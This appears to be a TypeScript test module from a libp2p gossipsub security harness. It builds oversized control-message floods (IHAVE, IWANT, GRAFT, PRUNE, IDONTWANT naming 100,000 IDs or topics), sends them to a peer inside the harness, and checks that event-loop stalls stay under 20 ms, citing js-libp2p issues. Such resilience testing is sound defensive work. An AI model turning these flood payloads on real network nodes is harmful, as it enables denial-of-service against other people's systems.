import { setTimeout as pause } from 'node:timers/promises';
import { type Arena, attackerAddress } from '../arena.js';
import type { Attack } from '../attack.js';
import { bytesField } from '../wire/encoding.js';
import { control, rpc, subscription } from '../wire/gossip.js';
import { Protocols } from '../wire/peer.js';

const IDS = 100_000;
/** What libraries take in one RPC. */
const LAWFUL_IDS = 5_000;
const LAWFUL_IDONTWANT_IDS = 512;
const STALL_LIMIT_MS = 20;
/** The least stall counts: other work of the machine only adds to it. */
const ROUNDS = 3;
const TOPIC = 'attack/0.1';

const ids = (count: number, field: number) =>
  Array.from({ length: count }, (_, i) => bytesField(field, Buffer.from(i.toString(36).padStart(4, '0'))));
const topics = (count: number) =>
  Array.from({ length: count }, (_, i) => bytesField(1, `t${i.toString(36)}`));

/** The control part of an RPC that names so many; a hundred thousand still are no larger than an RPC may be. */
const kinds: Readonly<Record<string, (count: number) => Buffer>> = {
  IHAVE: (count) => control(bytesField(1, Buffer.concat([bytesField(1, TOPIC), ...ids(count, 2)]))),
  IWANT: (count) => control(bytesField(2, Buffer.concat(ids(count, 1)))),
  GRAFT: (count) => control(...topics(count).map((topic) => bytesField(3, topic))),
  PRUNE: (count) => control(...topics(count).map((topic) => bytesField(4, topic))),
  IDONTWANT: (count) => control(bytesField(5, Buffer.concat(ids(count, 1)))),
};

/** A hundred thousand messages or topics named in one RPC, and in many that each keep to the limits of libraries. */
export const controlFloods: Attack = {
  name: 'control-floods',
  source: 'js-libp2p #3520, #3568, #3573',
  limit: 'event loop held < 20 ms by each',
  run: async (arena) => {
    const stalls: Record<string, number> = {};
    const addresses = Array.from({ length: 2 * ROUNDS * 5 }, (_, i) => attackerAddress(10, 1 + i));
    for (const [kind, make] of Object.entries(kinds)) {
      const small = kind === 'IDONTWANT' ? LAWFUL_IDONTWANT_IDS : LAWFUL_IDS;
      const total = arena.count(IDS);
      const pieces = Array.from({ length: Math.ceil(total / small) }, () => rpc(make(small)));
      const attempts = { [kind]: rpc(make(total)), [`${kind} in pieces`]: Buffer.concat(pieces) };
      for (const [name, bytes] of Object.entries(attempts))
        for (let round = 0; round < ROUNDS; round += 1) {
          const stall = await stallBy(arena, bytes, addresses.pop() ?? '');
          stalls[name] = Math.min(stalls[name] ?? stall, stall);
        }
    }
    return {
      figure: Object.entries(stalls)
        .map(([kind, ms]) => `${kind} ${ms.toFixed(1)} ms`)
        .join(', '),
      ok: Object.values(stalls).every((ms) => ms < STALL_LIMIT_MS),
    };
  },
};

/** How long these bytes of a new neighbour hold the event loop, ms. */
async function stallBy(arena: Arena, bytes: Buffer, from: string): Promise<number> {
  const peer = arena.peer();
  const { yamux } = await arena.join(peer, from);
  const stream = yamux.open(Protocols.gossip);
  await stream.agreed;
  stream.write(rpc(subscription(TOPIC)));
  await pause(200);
  const stall = await arena.stall(async () => {
    stream.write(bytes);
    await pause(300);
  });
  peer.close();
  return stall;
}
